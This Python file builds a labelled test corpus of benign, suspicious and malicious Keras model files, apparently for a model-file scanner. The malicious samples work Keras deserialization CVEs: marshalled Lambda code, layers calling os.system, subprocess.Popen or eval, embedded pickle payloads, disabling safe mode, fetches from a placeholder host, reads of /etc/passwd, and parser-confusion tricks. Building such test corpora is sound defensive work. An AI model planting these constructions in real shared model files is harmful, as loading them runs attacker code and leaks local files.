"""Keras models: HDF5 and the zip of version 3."""

import base64
import io
import json
import marshal

import h5py
import numpy

from archives import Entry, zip_files, zip_of
from pickle_asm import SHELL, call, dump, system
from torch_files import state_dict, torch_zip


def lambda_code():
    """Marshalled code of a lambda that prints, in the form that Keras stores."""
    code = compile("lambda x: print('caiso') or x", "<caiso>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code, 2)).decode() + "\n"


def old_lambda():
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32", "function": [lambda_code(), None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "arguments": {}}}


def new_lambda():
    function = {"class_name": "__lambda__", "config": {"code": lambda_code(), "defaults": None, "closure": None}}
    return layer("Lambda", {"name": "lambda", "function": function, "arguments": {}})


def layer(name, config, module="keras.layers", registered=None):
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def dense(**config):
    return layer("Dense", {"name": "dense", "units": 2, "activation": "relu", "use_bias": True, **config})


def old_dense(**config):
    return {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu", **config}}


def input_layer():
    return layer("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "name": "input"})


def sequential(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": [input_layer(), *layers]}, "registered_name": None}


def function(module, name, registered="function"):
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}


def weights():
    """The weights of the layer `dense()`, as Keras 3 lays them out."""
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("layers/dense/vars/0", data=numpy.ones((2, 2), numpy.float32), track_times=False)
        file.create_dataset("layers/dense/vars/1", data=numpy.zeros(2, numpy.float32), track_times=False)
    return out.getvalue()


def h5(attributes, dataset="model_weights/dense/dense/kernel:0", **options):
    """An HDF5 file with string attributes and one small dataset."""
    out = io.BytesIO()
    with h5py.File(out, "w", **options) as file:
        for name, value in attributes.items():
            file.attrs[name] = value
        file.create_dataset(dataset, data=numpy.ones((2, 2), numpy.float32), track_times=False)
    return out.getvalue()


def old_model(*layers, **more):
    config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}}
    attributes = {"model_config": json.dumps(config), "keras_version": "2.15.0", "backend": "tensorflow"}
    return h5({**attributes, **more})


def keras(config, **more):
    """A Keras 3 archive around a configuration."""
    files = {
        "metadata.json": json.dumps({"keras_version": "3.9.0", "date_saved": "2025-01-01@00:00:00"}).encode(),
        "config.json": config if isinstance(config, bytes) else json.dumps(config).encode(),
        "model.weights.h5": weights(),
        **more,
    }
    return zip_files(files)


def build(corpus):
    old_format(corpus)
    new_format(corpus)


def old_format(corpus):
    corpus.benign("keras-dense.h5", "keras h5", "a dense model", old_model(old_dense()))
    corpus.benign("keras-dense-latest.h5", "keras h5", "a dense model in the newest file version", h5({"model_config": json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [old_dense()]}})}, libver="latest"))
    corpus.benign("keras-name-lambda.h5", "keras h5", "a dense layer whose name is lambda", old_model(old_dense(name="lambda_1")))
    corpus.benign("weights-only.weights.h5", "keras h5", "weights without a configuration", weights())
    corpus.benign("other-hdf5.h5", "hdf5", "an HDF5 file that is no model", h5({"title": "measurements, eval 3"}, "series/a"))
    refs = ["CVE-2024-3660", "CVE-2025-9905"]
    corpus.malicious("keras-lambda.h5", "keras h5", "a Lambda layer with marshalled code: safe_mode is ignored here", old_model(old_dense(), old_lambda()), refs)
    inner = {"class_name": "Sequential", "config": {"name": "inner", "layers": [old_lambda()]}}
    corpus.malicious("keras-lambda-nested.h5", "keras h5", "a Lambda layer inside an inner model", old_model(old_dense(), inner), refs)
    wrapped = {"class_name": "TimeDistributed", "config": {"name": "td", "layer": old_lambda()}}
    corpus.malicious("keras-lambda-wrapped.h5", "keras h5", "a Lambda layer inside a wrapper", old_model(wrapped), refs)
    corpus.malicious("keras-lambda-latest.h5", "keras h5", "a Lambda layer in the newest file version", h5({"model_config": json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [old_lambda()]}})}, libver="latest"), refs)
    corpus.malicious("keras-lambda-bytes.h5", "keras h5", "the configuration is an array of fixed-width bytes", h5({"model_config": numpy.bytes_(json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [old_lambda()]}}))}), refs)
    named = old_lambda()
    named["config"].update(function="system", function_type="function", module="os")
    corpus.malicious("keras-lambda-named.h5", "keras h5", "a Lambda layer names os.system", old_model(named), refs)
    corpus.malicious("keras-training-config.h5", "keras h5", "a Lambda loss in the training configuration", old_model(old_dense(), training_config=json.dumps({"loss": {"class_name": "__lambda__", "config": {"code": lambda_code(), "defaults": None, "closure": None}}})), refs)
    corpus.malicious("keras-module-path.h5", "keras h5", "a layer of another module", old_model({"module": "os", "class_name": "system", "config": {"command": SHELL}}), ["CVE-2025-9905"])
    corpus.suspicious("keras-custom-class.h5", "keras h5", "a layer class that Keras does not have", old_model(old_dense(), {"class_name": "AcmeAttention", "config": {"name": "a"}, "registered_name": "acme>AcmeAttention"}))
    corpus.malicious("keras-dataset-pickle.h5", "keras h5", "a dataset holds a pickle with the payload", _h5_with_blob(system()))
    corpus.malicious("keras-h5-then-zip.h5", "polyglot", "a zip with a payload after a model", old_model(old_dense()) + zip_files({"data.pkl": system()}))
    padded = bytes(512) + _move_super_block()
    corpus.malicious("keras-user-block.h5", "keras h5", "the file begins 512 bytes later, as HDF5 allows", padded, refs)
    corpus.malicious("keras-external-link.h5", "keras h5", "an external link to another file", _h5_with_link())
    corpus.malicious("keras-external-storage.h5", "keras h5", "a dataset stored in a file outside", _h5_with_external())
    corpus.suspicious("keras-cut.h5", "keras h5", "a model cut in half", old_model(old_dense())[:1500])


def _h5_with_blob(data):
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [old_dense()]}})
        file.create_dataset("optimizer/state", data=numpy.frombuffer(data, numpy.uint8), track_times=False)
    return out.getvalue()


def _move_super_block():
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [old_lambda()]}})
    return out.getvalue()


def _h5_with_link():
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [old_dense()]}})
        file["model_weights"] = h5py.ExternalLink("../../../etc/caiso.h5", "/secret")
    return out.getvalue()


def _h5_with_external():
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [old_dense()]}})
        plist = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        plist.set_obj_track_times(False)
        plist.set_external(b"/etc/passwd", 0, 64)
        h5py.h5d.create(file.id, b"kernel", h5py.h5t.NATIVE_UINT8, h5py.h5s.create_simple((64,)), plist)
    return out.getvalue()


def new_format(corpus):
    corpus.benign("keras-dense.keras", "keras v3", "a dense model", keras(sequential(dense())))
    corpus.benign("keras-activation-names.keras", "keras v3", "activations and initializers by their module paths", keras(sequential(dense(kernel_initializer={"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}, activation=function("keras.activations", "gelu", "gelu")))))
    corpus.malicious("keras-lambda.keras", "keras v3", "a Lambda layer with marshalled code", keras(sequential(dense(), new_lambda())), ["CVE-2024-3660"])
    corpus.malicious("keras-lambda-nested.keras", "keras v3", "a Lambda layer two models deep", keras(sequential(sequential(sequential(new_lambda())))), ["CVE-2024-3660"])
    wrapped = layer("TimeDistributed", {"name": "td", "layer": new_lambda()})
    corpus.malicious("keras-lambda-wrapped.keras", "keras v3", "a Lambda layer inside a wrapper", keras(sequential(wrapped)), ["CVE-2024-3660"])
    corpus.malicious("keras-module-function.keras", "keras v3", "an activation names a function of os", keras(sequential(dense(activation=function("os", "system")))), ["CVE-2025-1550"])
    called = layer("Lambda", {"name": "lambda", "function": function("os", "system"), "arguments": {"command": SHELL}})
    called["inbound_nodes"] = [{"args": [SHELL], "kwargs": {}}]
    corpus.malicious("keras-module-called.keras", "keras v3", "a function of os is called with an argument of the graph", keras(sequential(called)), ["CVE-2025-1550"])
    corpus.malicious("keras-module-class.keras", "keras v3", "a class of subprocess is a layer", keras(sequential(layer("Popen", {"args": ["echo", "caiso"]}, "subprocess"))), ["CVE-2025-1550"])
    corpus.malicious("keras-module-parent.keras", "keras v3", "a module of Keras re-exports os", keras(sequential(dense(activation=function("keras.src.utils.file_utils", "os.system")))), ["CVE-2025-1550", "CVE-2025-8747"])
    get_file = layer("Lambda", {"name": "lambda", "function": function("keras.utils", "get_file", "get_file"), "arguments": {"fname": "caiso", "origin": "https://caiso.invalid/caiso", "cache_dir": "/dev/null"}})
    corpus.malicious("keras-get-file.keras", "keras v3", "keras.utils.get_file fetches a file", keras(sequential(get_file)), ["CVE-2025-8747"])
    hidden = layer("Lambda", {"name": "lambda", "function": function("keras.src.utils.file_utils", "get_file", "get_file"), "arguments": {"origin": "https://caiso.invalid/", "extract": True}})
    corpus.malicious("keras-get-file-private.keras", "keras v3", "get_file by its private path, with extraction", keras(sequential(hidden)), ["CVE-2025-8747"])
    unsafe = layer("Lambda", {"name": "lambda", "function": function("keras.config", "enable_unsafe_deserialization", "enable_unsafe_deserialization")})
    corpus.malicious("keras-enable-unsafe.keras", "keras v3", "safe mode is switched off by the model itself", keras(sequential(unsafe, new_lambda())), ["CVE-2025-9906"])
    private = layer("Lambda", {"name": "lambda", "function": function("keras.src.saving.serialization_lib", "enable_unsafe_deserialization", "x")})
    corpus.malicious("keras-enable-unsafe-private.keras", "keras v3", "safe mode is switched off by a private path", keras(sequential(private)), ["CVE-2025-9906"])
    blob = base64.b64encode(torch_zip(state_dict({"h": call("os", "system", SHELL)}))).decode()
    module = layer("TorchModuleWrapper", {"name": "torch", "module": blob})
    corpus.malicious("keras-torch-module.keras", "keras v3", "a TorchModuleWrapper holds a pickle in base64", keras(sequential(module)), ["CVE-2025-49655"])
    dictionary = layer("TorchModuleWrapper", {"name": "torch", "module": {"class_name": "__bytes__", "config": {"value": base64.b64encode(dump(call("os", "system", SHELL), 2)).decode()}}}, "keras.src.utils.torch_utils")
    corpus.malicious("keras-torch-module-private.keras", "keras v3", "a TorchModuleWrapper by its private path", keras(sequential(dictionary)), ["CVE-2025-49655"])
    lookup = layer("StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd"})
    corpus.malicious("keras-vocabulary-path.keras", "keras v3", "a vocabulary is read from a file outside", keras(sequential(lookup)), ["CVE-2025-12058"])
    remote = layer("StringLookup", {"name": "lookup", "vocabulary": "https://caiso.invalid/vocabulary"})
    corpus.malicious("keras-vocabulary-url.keras", "keras v3", "a vocabulary is read from an address", keras(sequential(remote)), ["CVE-2025-12058"])
    words = layer("StringLookup", {"name": "lookup", "vocabulary": ["eval", "exec", "os"]})
    corpus.benign("keras-vocabulary-list.keras", "keras v3", "a vocabulary in the file itself, with names of functions", keras(sequential(words)))
    corpus.suspicious("keras-custom-class.keras", "keras v3", "a layer of the author's package", keras(sequential(layer("AcmeAttention", {"name": "a"}, "acme.layers", "acme>AcmeAttention"))))
    compiled = sequential(dense())
    compiled["compile_config"] = {"optimizer": "adam", "loss": function("builtins", "eval")}
    corpus.malicious("keras-compile-loss.keras", "keras v3", "the loss is eval", keras(compiled), ["CVE-2025-1550"])
    corpus.malicious("keras-assets-pickle.keras", "keras v3", "an asset is a pickle with the payload", keras(sequential(dense()), **{"assets/vocabulary.pkl": system()}))
    doubled = json.dumps(sequential(dense())).encode()[:-1] + b', "config": ' + json.dumps(sequential(new_lambda())["config"]).encode() + b"}"
    corpus.malicious("keras-duplicate-key.keras", "keras v3", "the key config stands twice, the second holds a Lambda", keras(doubled))
    entries = [Entry("config.json", json.dumps(sequential(dense())).encode()), Entry("config.json", json.dumps(sequential(new_lambda())).encode()), Entry("metadata.json", b'{"keras_version": "3.9.0"}'), Entry("model.weights.h5", weights())]
    corpus.malicious("keras-two-configs.keras", "keras v3", "config.json stands twice in the archive", zip_of(entries))
    escaped = json.dumps(sequential(new_lambda())).replace("Lambda", "L\\u0061mbda").encode()
    corpus.malicious("keras-escaped.keras", "keras v3", "the class name is written with an escape", keras(escaped), ["CVE-2024-3660"])
    corpus.suspicious("keras-broken-config.keras", "keras v3", "the configuration is no JSON", keras(b"{'class_name': "))
